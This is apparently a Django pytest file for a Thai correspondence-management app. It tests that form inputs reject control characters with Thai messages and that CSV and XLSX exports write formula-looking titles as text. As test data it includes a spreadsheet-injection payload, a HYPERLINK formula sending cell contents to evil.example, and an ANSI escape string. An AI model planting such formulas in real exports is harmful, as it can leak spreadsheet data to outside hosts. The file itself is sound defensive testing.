"""Text hygiene (issue 14, item 2): control characters are refused with a Thai sentence at every form and API
input, and no export can fail or run a formula, whatever text is already in the database."""

import csv
import io

import pytest
from django import forms
from django.db import connection
from django.urls import get_resolver, reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from prasan import hygiene
from prasan.correspondence import numbering
from prasan.correspondence.models import RegisterEntry
from prasan.matters.models import Matter

pytestmark = pytest.mark.django_db

CONTROLS = ["\u000b", "\u001b", "\u0000", "\u0007", "\u007f", "\u0085"]


def matter_form(**fields):
    data = {"title": "ขอข้อมูลครูผู้ช่วย", "source": "written_command", "duty_type": "analysis",
            "kind": "substantive", "process": "main", "urgency": "normal", "secrecy": "0"}
    data.update(fields)
    return data


@pytest.mark.parametrize("char", CONTROLS)
def test_a_matter_title_with_a_control_character_is_refused_in_thai_and_kept_on_the_page(login, users, char):
    response = login(users["coordinator"]).post(reverse("matter-new"), matter_form(title=f"ขอข้อมูล{char}ครู"))
    page = response.content.decode()
    assert response.status_code == 200 and Matter.objects.count() == 0
    assert "อักขระควบคุมที่มองไม่เห็น" in page and hygiene.code(char) in page


def test_tab_and_line_breaks_are_text_not_control(login, users):
    response = login(users["coordinator"]).post(reverse("matter-new"), matter_form(
        title="ขอข้อมูล\tครู", description="บรรทัดหนึ่ง\r\nบรรทัดสอง\n\tย่อหน้า"))
    assert response.status_code == 302
    assert Matter.objects.get().description == "บรรทัดหนึ่ง\r\nบรรทัดสอง\n\tย่อหน้า"


def test_a_register_subject_with_escape_is_refused(login, users):
    response = login(users["registrar"]).post(reverse("register-new", args=["incoming"]), {
        "subject": "ขอความเห็นชอบ\u001b[31m", "sender": "สพฐ.", "secrecy": "0"})
    assert response.status_code == 200 and RegisterEntry.objects.count() == 0
    assert "รหัสอักขระ 27" in response.content.decode()


def test_every_text_field_of_every_form_carries_the_rule():
    """The rule is CharField's default validator; a form class built before it was installed would miss it."""
    get_resolver().url_patterns  # noqa: B018 — imports every view, and so every form module
    from django.contrib import admin

    admin.autodiscover()
    checked = 0

    def subclasses(cls):
        for sub in cls.__subclasses__():
            yield sub
            yield from subclasses(sub)

    for form_class in set(subclasses(forms.BaseForm)):
        if not form_class.__module__.startswith("prasan"):
            continue
        for name, field in form_class.base_fields.items():
            if type(field).default_validators is forms.CharField.default_validators:
                assert hygiene.NoControlCharacters() in field.validators, f"{form_class.__name__}.{name}"
                checked += 1
    assert checked > 50


def test_the_document_editor_builds_its_forms_with_the_rule():
    from prasan.documents import editor
    from prasan.documents.forms import FORMS

    spec = next(iter(FORMS.values()))
    form = editor.build(spec, bound={name: "ก\u000bข" for name in editor.build(spec).fields})
    assert not form.is_valid()
    assert any("รหัสอักขระ 11" in str(errors) for errors in form.errors.values())


# ---- exports ---------------------------------------------------------------------------------------

def test_csv_cells_that_would_run_as_formulas_are_written_as_text(login, users, make_matter):
    make_matter(title='=HYPERLINK("http://evil.example/?x="&A1,"คลิก")')
    make_matter(title="@SUM(1+1)")
    make_matter(title="+66 2 123 4567")
    make_matter(title="-2+3")
    response = login(users["head"]).get(reverse("matter-export", args=["csv"]))
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    titles = {row[1] for row in list(csv.reader(io.StringIO(text)))[1:]}
    assert titles == {"'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"คลิก\")", "'@SUM(1+1)", "'+66 2 123 4567", "'-2+3"}


def test_xlsx_writes_a_formula_looking_title_as_text(login, users, make_matter):
    make_matter(title='=HYPERLINK("http://evil.example","คลิก")')
    response = login(users["head"]).get(reverse("matter-export", args=["xlsx"]))
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cell = sheet.cell(row=3, column=2)
    assert cell.value == '=HYPERLINK("http://evil.example","คลิก")' and cell.data_type == "s"


def _text():
    # Any Unicode a database can hold: no lone surrogates (UTF-8 cannot encode them), and no NUL on PostgreSQL.
    excluded = "\x00" if connection.vendor == "postgresql" else ""
    return st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters=excluded), min_size=1,
                   max_size=40)


EXPORTS = [
    ("matter-export", ["xlsx"]), ("matter-export", ["csv"]),
    ("register-export", ["incoming", "xlsx"]), ("register-export", ["incoming", "csv"]),
    ("reports-export", ["xlsx"]), ("reports-export", ["csv"]),
]


@pytest.fixture
def rows(make_matter, users, office, agencies):
    """A matter closed this month (so the report has rows), its register entry, its agency request."""
    from django.utils import timezone

    from prasan.coordination.models import AgencyRequest

    matter = make_matter()
    Matter.objects.filter(pk=matter.pk).update(state="closed", closed_at=timezone.now())
    entry = numbering.register_entry(office, "incoming", by=users["registrar"], subject="ก", sender="ข")
    AgencyRequest.objects.create(matter=matter, agency=agencies[0], deliverable="ส่งข้อมูล",
                                 deadline=timezone.localdate(), status="answered", answered_at=timezone.now())
    return matter, entry, agencies[0]


def _written(text: str) -> str:
    return hygiene.CONTROL.sub("", text)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_no_export_fails_whatever_text_is_already_in_the_database(login, users, rows, data):
    """Text written straight into the database (as rows from before the rule, or an import, may hold it)."""
    matter, entry, agency = rows
    title, subject, name = data.draw(_text()), data.draw(_text()), data.draw(_text())
    Matter.objects.filter(pk=matter.pk).update(title=title)
    RegisterEntry.objects.filter(pk=entry.pk).update(subject=subject, sender=name)
    type(agency).objects.filter(pk=agency.pk).update(name=name)
    type(users["coordinator"]).objects.filter(pk=users["coordinator"].pk).update(first_name=name)
    client = login(users["head"])
    for url_name, args in EXPORTS:
        response = client.get(reverse(url_name, args=args))
        assert response.status_code == 200, (url_name, args)
        body = b"".join(response.streaming_content) if response.streaming else response.content
        if args[-1] == "xlsx":
            book = load_workbook(io.BytesIO(body))
            cells = [c for sheet in book for line in sheet.iter_rows() for c in line if c.value is not None]
            assert all(c.data_type != "f" for c in cells)
            values = {c.value for c in cells}
            if url_name == "matter-export":
                assert _written(title) in values or not _written(title)
            if url_name == "register-export":
                assert _written(subject) in values or not _written(subject)
        else:
            for line in csv.reader(io.StringIO(body.decode("utf-8-sig"))):
                for cell in line:
                    assert not cell.startswith(hygiene.FORMULA_START)
                    assert not hygiene.CONTROL.search(cell)
